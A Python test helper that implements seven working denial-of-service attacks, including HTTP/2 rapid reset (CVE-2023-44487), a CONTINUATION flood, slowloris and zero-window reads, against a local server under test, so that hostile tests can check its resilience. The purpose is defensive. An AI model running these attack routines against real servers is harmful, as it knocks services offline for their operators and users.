"""Attacks on lite, each run in a child process of its own by the hostile tests.

``python tests/hostile/_attack.py NAME PORT SECONDS`` runs attack NAME against lite on
127.0.0.1:PORT for about SECONDS, then prints one JSON line of what it did. The attacks use
raw sockets and hand-built frames (hyperframe, hpack), as an attacker would, and never read
what lite sends them unless the attack needs it. A child process keeps the attacker's own CPU
work out of the test's event loop, where the probe measures lite's answers.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import sys
import time
from collections.abc import Awaitable, Callable

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BASIN = os.environ.get("ATTACK_BASIN", "hostile-basin")
STREAM = os.environ.get("ATTACK_STREAM", "s")

Attack = Callable[[int, float, dict[str, int]], Awaitable[None]]


def _headers(encoder: hpack.Encoder, method: str, path: str, extra: list[tuple[str, str]]) -> bytes:
    pseudo = [(":method", method), (":scheme", "http"), (":authority", "127.0.0.1")]
    return encoder.encode([*pseudo, (":path", path), *extra])


async def _open(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection("127.0.0.1", port)


async def _until(deadline: float) -> None:
    await asyncio.sleep(max(0.0, deadline - time.monotonic()))


async def rapid_reset(port: int, seconds: float, stats: dict[str, int]) -> None:
    """HEADERS then RST_STREAM, as fast as the socket takes them (CVE-2023-44487)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            _, writer = await _open(port)
            writer.write(PREFACE + SettingsFrame(0).serialize())
            encoder = hpack.Encoder()
            sid = 1
            while time.monotonic() < deadline and not writer.is_closing():
                burst = bytearray()
                for _ in range(500):
                    block = _headers(encoder, "GET", "/v1/basins", [])
                    burst += HeadersFrame(sid, block, flags=["END_HEADERS"]).serialize()
                    burst += RstStreamFrame(sid, error_code=8).serialize()
                    sid += 2
                writer.write(burst)
                await writer.drain()
                stats["streams"] = stats.get("streams", 0) + 500
            writer.close()
        except (ConnectionError, OSError):
            stats["dropped"] = stats.get("dropped", 0) + 1
            await asyncio.sleep(0.01)


async def continuation_flood(port: int, seconds: float, stats: dict[str, int]) -> None:
    """20 connections, each a header block that never ends: 60 x 1 MiB CONTINUATION."""
    deadline = time.monotonic() + seconds

    async def one() -> None:
        while time.monotonic() < deadline:
            try:
                _, writer = await _open(port)
                writer.write(PREFACE + SettingsFrame(0).serialize())
                block = _headers(hpack.Encoder(), "GET", "/v1/basins", [])
                writer.write(HeadersFrame(1, block).serialize())
                for _ in range(60):
                    writer.write(ContinuationFrame(1, b"\x00" * (1 << 20)).serialize())
                    await writer.drain()
                    stats["mib_sent"] = stats.get("mib_sent", 0) + 1
                writer.close()
            except (ConnectionError, OSError):
                stats["dropped"] = stats.get("dropped", 0) + 1
                await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(20)))


async def pipelining(port: int, seconds: float, stats: dict[str, int]) -> None:
    """4 HTTP/1.1 connections pipelining reads of a large stream and never reading."""
    deadline = time.monotonic() + seconds
    request = (
        f"GET /v1/streams/{STREAM}/records?seq_num=0 HTTP/1.1\r\nhost: 127.0.0.1\r\n"
        f"s2-basin: {BASIN}\r\n\r\n"
    ).encode()

    async def one() -> None:
        try:
            _, writer = await _open(port)
            while time.monotonic() < deadline:
                writer.write(request * 100)
                await asyncio.wait_for(writer.drain(), max(0.1, deadline - time.monotonic()))
                stats["requests"] = stats.get("requests", 0) + 100
        except (ConnectionError, OSError, TimeoutError):
            stats["dropped"] = stats.get("dropped", 0) + 1
        await _until(deadline)

    await asyncio.gather(*(one() for _ in range(4)))


async def silent_sse(port: int, seconds: float, stats: dict[str, int]) -> None:
    """Many SSE readers of the live tail that never read (each its own HTTP/1.1 socket)."""
    count = int(os.environ.get("ATTACK_READERS", "500"))
    request = (
        f"GET /v1/streams/{STREAM}/records HTTP/1.1\r\nhost: 127.0.0.1\r\n"
        f"s2-basin: {BASIN}\r\naccept: text/event-stream\r\n\r\n"
    ).encode()
    socks = []
    for _ in range(count):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # read nothing, hold little
        try:
            sock.connect(("127.0.0.1", port))
            sock.sendall(request)
            socks.append(sock)
        except OSError:
            stats["refused"] = stats.get("refused", 0) + 1
    stats["readers"] = len(socks)
    await asyncio.sleep(seconds)
    for sock in socks:
        sock.close()


async def zero_window_reads(port: int, seconds: float, stats: dict[str, int]) -> None:
    """S2S read sessions on HTTP/2 connections that advertise a window of 0 and never open
    it: lite can send nothing, and must not pile up batches for them."""
    sessions = int(os.environ.get("ATTACK_READERS", "300"))
    writers = []
    per_connection = 100
    for c in range((sessions + per_connection - 1) // per_connection):
        try:
            _, writer = await _open(port)
        except OSError:
            stats["refused"] = stats.get("refused", 0) + 1
            continue
        settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        writer.write(PREFACE + settings.serialize())
        encoder = hpack.Encoder()
        extra = [("s2-basin", BASIN), ("content-type", "s2s/proto")]
        path = f"/v1/streams/{STREAM}/records?seq_num=0"
        for i in range(min(per_connection, sessions - c * per_connection)):
            block = _headers(encoder, "GET", path, extra)
            writer.write(HeadersFrame(2 * i + 1, block, flags=["END_HEADERS"]).serialize())
        # Acknowledge lite's SETTINGS blindly (it sent them first) so its limits apply.
        writer.write(SettingsFrame(0, flags=["ACK"]).serialize() * 2)
        writers.append(writer)
        stats["sessions"] = stats.get("sessions", 0) + per_connection
    await asyncio.sleep(seconds)
    for writer in writers:
        writer.close()


async def unfinished_bodies(port: int, seconds: float, stats: dict[str, int]) -> None:
    """60 connections each announcing an 8 MiB append body, sending 7 MiB, then stalling."""
    deadline = time.monotonic() + seconds
    head = (
        f"POST /v1/streams/{STREAM}/records HTTP/1.1\r\nhost: 127.0.0.1\r\n"
        f"s2-basin: {BASIN}\r\ncontent-type: application/json\r\n"
        f"content-length: {8 << 20}\r\n\r\n"
    ).encode()

    async def one() -> None:
        try:
            _, writer = await _open(port)
            writer.write(head)
            for _ in range(7):
                writer.write(b" " * (1 << 20))
                await asyncio.wait_for(writer.drain(), max(0.1, deadline - time.monotonic()))
                stats["mib_sent"] = stats.get("mib_sent", 0) + 1
        except (ConnectionError, OSError, TimeoutError):
            stats["dropped"] = stats.get("dropped", 0) + 1
        await _until(deadline)

    await asyncio.gather(*(one() for _ in range(60)))


async def slowloris(port: int, seconds: float, stats: dict[str, int]) -> None:
    """Many connections, each dripping one header byte per second, and more than lite's
    connection cap of them."""
    count = int(os.environ.get("ATTACK_CONNECTIONS", "1000"))
    deadline = time.monotonic() + seconds
    line = b"GET /v1/basins HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: " + b"z" * 10_000

    async def one() -> None:
        try:
            _, writer = await _open(port)
            stats["opened"] = stats.get("opened", 0) + 1
            for byte in line:
                if time.monotonic() >= deadline:
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1.0)
        except (ConnectionError, OSError):
            stats["dropped"] = stats.get("dropped", 0) + 1
        await _until(deadline)

    await asyncio.gather(*(one() for _ in range(count)))


ATTACKS: dict[str, Attack] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "pipelining": pipelining,
    "silent_sse": silent_sse,
    "zero_window_reads": zero_window_reads,
    "unfinished_bodies": unfinished_bodies,
    "slowloris": slowloris,
}


def main() -> None:
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    stats: dict[str, int] = {}
    asyncio.run(ATTACKS[name](port, seconds, stats))
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
